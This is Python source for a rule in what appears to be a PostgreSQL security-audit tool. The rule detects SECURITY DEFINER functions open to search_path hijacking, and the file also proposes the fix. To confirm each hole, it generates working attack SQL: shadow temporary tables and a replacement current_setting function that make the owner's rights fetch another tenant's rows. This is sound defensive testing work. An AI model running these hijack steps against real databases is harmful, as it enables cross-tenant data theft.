"""PW248: a definer function looks a name up, and finds what A put in front of it."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from partywall.survey import sql
from partywall.survey.attack import Attempt, Breach, Step, attack
from partywall.survey.capability import call, named_values, temporary, victims, workshop
from partywall.survey.expressions import relations_in
from partywall.survey.mending.functions import pinned

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from partywall.catalog.facts import Function, Relation
    from partywall.survey.attack import Judgement, Outcome, Scene

UNQUALIFIED = re.compile(r"(?<![\w.\"])current_setting\s*\(", re.IGNORECASE)
LONGEST_NAMES, MIXED = 8, 6


@attack("PW248", effect="read", level="sql")
def shadow_definers(scene: Scene) -> Iterator[Attempt]:
    """Put temporary tables, or functions, before what a SECURITY DEFINER function names.

    Without `SET search_path` a definer function looks unqualified names up where its caller says;
    with one that leaves pg_temp out, temporary tables still come first. A table of memberships or
    of settings that A fills itself then decides whose rows the owner's rights fetch. Where A may
    create in a schema, `current_setting` itself is replaced.

    Affected:
        SECURITY DEFINER functions without a search_path of their own that ends in pg_temp.

    Breaches:
        CREATE VIEW shop.context AS SELECT current_setting('app.tenant', true) AS tenant;
        CREATE FUNCTION shop.mine() RETURNS SETOF shop.invoices LANGUAGE sql STABLE
          SECURITY DEFINER SET search_path = shop
          AS $$ SELECT i.* FROM shop.invoices i JOIN context USING (tenant) $$;

    Holds:
        CREATE VIEW shop.context AS SELECT current_setting('app.tenant', true) AS tenant;
        CREATE FUNCTION shop.mine() RETURNS SETOF shop.invoices LANGUAGE sql STABLE
          SECURITY DEFINER SET search_path = shop, pg_temp
          AS $$ SELECT i.* FROM shop.invoices i JOIN context USING (tenant) $$;

    Fix:
        Give every SECURITY DEFINER function a search_path of its own that ends in pg_temp, in
        which the login may create nothing.

    Source:
        https://www.postgresql.org/docs/current/sql-createfunction.html
        https://nvd.nist.gov/vuln/detail/CVE-2007-2138
    """
    if not list(victims(scene)):
        return
    role = scene.identities["A"].role
    for function in scene.snapshot.functions.values():
        if (
            not function.definer
            or function.extension is not None
            or function.is_trigger
            or function.kind not in {"function", "procedure"}
            or function.oid not in scene.snapshot.executable[role]
            or role not in scene.snapshot.schemas[function.schema].usage
        ):
            continue
        yield from _by_tables(scene, function)
        yield from _by_function(scene, function)


def _path(scene: Scene, function: Function) -> list[str]:
    """The schemas that *function* looks names up in, when A calls it."""
    pinned = function.settings.get("search_path")
    if pinned is None:
        return [*scene.identities["A"].search_path]
    return [part.strip().strip('"') for part in pinned.split(",") if part.strip().strip('"')]


def _shadows(scene: Scene, function: Function) -> dict[str, list[Step]]:
    """By relation that *function* names unqualified: the steps that put A's own before it."""
    path = _path(scene, function)
    found: dict[str, list[Step]] = {}
    for schema, name in relations_in(function.source, function.language):
        if schema is not None or name in found:
            continue
        meant = next(
            (
                relation
                for place in path
                for relation in scene.snapshot.relations.values()
                if (relation.schema, relation.name) == (place, name)
            ),
            None,
        )
        where = _before(scene, path, meant) if meant else None
        rows = _rows(scene, meant) if meant else ""
        if where is None or meant is None or not rows:
            continue
        table = f"{where}.{meant.quoted}"
        found[name] = [
            Step("A", f"CREATE TABLE {table} AS {rows}"),
            Step("A", f"GRANT ALL ON {table} TO PUBLIC"),
        ]
    return found


def _before(scene: Scene, path: Sequence[str], meant: Relation) -> str | None:
    """A schema, quoted, that is searched before the one of *meant* and that A may create in."""
    earlier = path[: path.index(meant.schema)]
    if temporary(scene) and ("pg_temp" not in path or "pg_temp" in earlier):
        return "pg_temp"
    role = scene.identities["A"].role
    for name in earlier:
        schema = scene.snapshot.schemas.get(name)
        if schema is not None and role in schema.create:
            return schema.quoted
    return None


def _rows(scene: Scene, relation: Relation) -> str:
    """A query for rows that make *relation* speak for B: B's own, and B's with one value of A."""
    a, b = named_values(scene, "A"), named_values(scene, "B")
    canary = scene.world.canaries["B"]
    keyed = {n for c in relation.constraints if c.kind != "check" for n in c.columns}
    theirs: dict[str, str | None] = {}
    for column in relation.columns:
        value = b.get(column.name)
        if value is not None and canary in value and column.name not in keyed:
            value = "pw"
        theirs[column.name] = value
    if not any(theirs.values()):
        return ""
    differing = [n for n, v in theirs.items() if v is not None and a.get(n) not in {v, None}]
    variants = [theirs, *({**theirs, name: a[name]} for name in differing[:MIXED])]
    return " UNION ALL ".join(
        "SELECT "
        + ", ".join(f"{sql.literal(v[c.name])}::{c.type} AS {c.quoted}" for c in relation.columns)
        for v in variants
    )


def _by_tables(scene: Scene, function: Function) -> Iterator[Attempt]:
    shadows = _shadows(scene, function)
    names = list(shadows)[:LONGEST_NAMES]
    sets = [[name] for name in names]
    if len(names) > 2:  # noqa: PLR2004 - with two, all but one is one
        sets += [[other for other in names if other != name] for name in names]
    for chosen in sets:
        steps = [step for name in chosen for step in shadows[name]]
        what = " and ".join(chosen)
        yield _attempt(scene, function, steps, f"a table {what} of A's own")


def _by_function(scene: Scene, function: Function) -> Iterator[Attempt]:
    """Replace current_setting where a schema of A's can be searched before pg_catalog."""
    place = workshop(scene)
    if place is None or "search_path" in function.settings or scene.model.carried_by_path:
        return
    if not UNQUALIFIED.search(function.source):
        return
    prepare, schema = place
    cases = " ".join(
        f"WHEN {sql.literal(name)} THEN {sql.literal(value)}"
        for name, value in scene.identities["B"].settings
    )
    if not cases:
        return
    path = ", ".join(sql.identifier(part) for part in scene.identities["A"].search_path)
    head = f"CREATE FUNCTION {schema}.current_setting"
    body = f"LANGUAGE sql AS $$SELECT CASE $1 {cases} END$$"
    steps = [
        *prepare,
        Step("A", f"{head}(text) RETURNS text {body}"),
        Step("A", f"{head}(text, boolean) RETURNS text {body}"),
        Step("A", f"GRANT USAGE ON SCHEMA {schema} TO PUBLIC"),
        Step("A", f"SET search_path = {', '.join(filter(None, [schema, 'pg_catalog', path]))}"),
    ]
    yield _attempt(scene, function, steps, "a function current_setting of A's own")


def _attempt(scene: Scene, function: Function, steps: list[Step], what: str) -> Attempt:
    theirs, mine = Step("B", call(scene, function, "B")), Step("A", call(scene, function, "A"))
    asked = Step("A", call(scene, function, "B"))
    planted = "\n".join(step.sql for step in steps)
    tokens = {token for token in scene.world.tokens["B"] if token not in planted}
    everything = (
        Step(theirs.who, theirs.sql, quiet=True), Step(mine.who, mine.sql, quiet=True),
        *steps, mine, asked,
    )  # fmt: skip

    def judge(outcomes: Sequence[Outcome]) -> Judgement:
        right, before = outcomes[0], outcomes[1]
        for number in (len(outcomes) - 2, len(outcomes) - 1):
            after = outcomes[number]
            same = right.ok and bool(after.rows) and after.rows == right.rows != before.rows
            if after.ok and (after.shows(tokens) or (same and function.arguments == ())):
                shown = (*range(2, len(outcomes) - 2), number)
                return Breach(
                    f"{function.signature} took {what} for the one it means, and fetched rows of "
                    "another tenant with its owner's rights",
                    None,
                    shown,
                )
        return None

    return Attempt(
        at=function.signature,
        attacker="A",
        steps=everything,
        judge=judge,
        fix=f"ALTER FUNCTION {function.signature} SET search_path = pg_catalog, pg_temp, "
        "and qualify the names in its body",
        repair=lambda: pinned(scene, function),
    )
